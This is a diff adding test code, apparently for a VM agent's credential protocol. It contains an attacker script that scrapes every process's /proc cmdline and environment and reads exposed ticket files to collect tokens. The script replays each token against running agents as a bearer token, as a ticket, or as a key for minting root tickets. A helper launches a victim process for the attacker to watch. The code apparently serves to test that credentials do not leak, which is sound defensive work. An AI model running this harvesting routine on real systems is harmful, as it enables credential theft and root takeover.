@@ -240,3 +240,127 @@ def real_agent(token: str, name: str = "sec0") -> Iterator[RealAgent]:
         yield agent
     finally:
         agent.stop()
+
+
+HARVEST = (
+    CLIENT
+    + r"""
+# The attacker: poll every process's cmdline and environ while a victim runs,
+# then try everything found against every agent seen, as soon as it is seen.
+stop, done, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
+TOKENISH = re.compile(rb"[A-Za-z0-9_\-\.]{20,}")
+agents, candidates, tried = set(), set(), set()
+ticket_files, ticket_files_read, environ_read = set(), 0, 0
+cmdlines = set()
+wins = []
+
+
+def harvest():
+    global ticket_files_read, environ_read
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or int(pid) == os.getpid():
+            continue
+        try:
+            with open("/proc/%s/cmdline" % pid, "rb") as f:
+                argv = f.read().split(b"\0")
+        except OSError:
+            continue
+        cmdlines.add(b" ".join(argv)[:300])
+        for i, a in enumerate(argv):
+            if a == b"--agent" and i + 1 < len(argv):
+                agents.add(argv[i + 1].decode())
+            if a == b"--ticket-file" and i + 1 < len(argv):
+                ticket_files.add(argv[i + 1])
+                try:
+                    with open(argv[i + 1], "rb") as f:
+                        candidates.add(f.read().strip())
+                    ticket_files_read += 1
+                except OSError:
+                    pass
+            candidates.update(TOKENISH.findall(a))
+        try:
+            with open("/proc/%s/environ" % pid, "rb") as f:
+                env = f.read()
+            environ_read += 1
+            candidates.update(TOKENISH.findall(env))
+        except OSError:
+            pass
+
+
+def try_all():
+    for addr in list(agents):
+        for cand in list(candidates):
+            if (addr, cand) in tried:
+                continue
+            tried.add((addr, cand))
+            c = cand.decode(errors="replace")
+            # 1. as the agent's bearer token
+            try:
+                req = urllib.request.Request("http://%s/v1/sessions" % addr,
+                                             headers={"Authorization": "Bearer " + c})
+                if urllib.request.urlopen(req, timeout=5).status == 200:
+                    wins.append(("bearer", addr, c))
+            except Exception:
+                pass
+            # 2. as a ticket, as it is (new and old protocol)
+            if c.startswith("v2.") and c.count(".") == 9:
+                try:
+                    with connect(addr) as s:
+                        if handshake(s, c) is None:  # we hold a working T
+                            wins.append(("v2 ticket", addr, c))
+                except OSError:
+                    pass
+            if c.startswith("v1.") and c.count(".") == 3:
+                out, err = run_v1(addr, c, b"/usr/bin/id", [b"/usr/bin/id", b"-u"])
+                if out.strip() == b"0":
+                    wins.append(("v1 ticket", addr, c))
+            # 3. as the instance token: mint our own root ticket
+            for inst in instances:
+                argv = [b"/usr/bin/id", b"-u"]
+                t = mint_v2(c, inst, argv[0], argv)
+                out, err = run_v2(addr, t, argv[0], argv)
+                if out.strip() == b"0" or err is None:
+                    wins.append(("minted v2", addr, inst, out.decode(errors="replace"), err))
+                out, err = run_v1(addr, mint_v1(c, inst), argv[0], argv)
+                if out.strip() == b"0":
+                    wins.append(("minted v1", addr, inst))
+
+
+import urllib.request
+instances = set()
+deadline = time.monotonic() + seconds
+while time.monotonic() < deadline:
+    harvest()
+    for line in cmdlines:
+        parts = line.split(b" ")
+        for i, a in enumerate(parts):
+            if a == b"--instance" and i + 1 < len(parts):
+                instances.add(parts[i + 1].decode())
+    try_all()
+    if os.path.exists(stop):
+        harvest()
+        try_all()
+        break
+open(done, "w").close()
+print(json.dumps({
+    "agents": sorted(agents), "instances": sorted(instances), "candidates": len(candidates),
+    "tried": len(tried), "ticket_files": len(ticket_files),
+    "ticket_files_read": ticket_files_read, "environ_read": environ_read,
+    "agent_cmdlines": sorted(l.decode(errors="replace") for l in cmdlines if b"vmagent" in l),
+    "wins": wins,
+}))
+"""
+)
+
+
+def victim_script(shared: Path, execs: int) -> str:
+    """`execs` placed /bin/echo runs, then tell the attacker and wait (bounded) for it."""
+    stop, done = shared / "stop", shared / "done"
+    wait = (
+        f'import os, time\nfor _ in range(1200):\n    if os.path.exists("{done}"): break\n'
+        "    time.sleep(0.1)\n"
+    )
+    return (
+        f"for i in $(seq {execs}); do /bin/echo ok-$i; done; : > {stop}; "
+        f"/usr/bin/python3 -I -c '{wait}'"
+    )
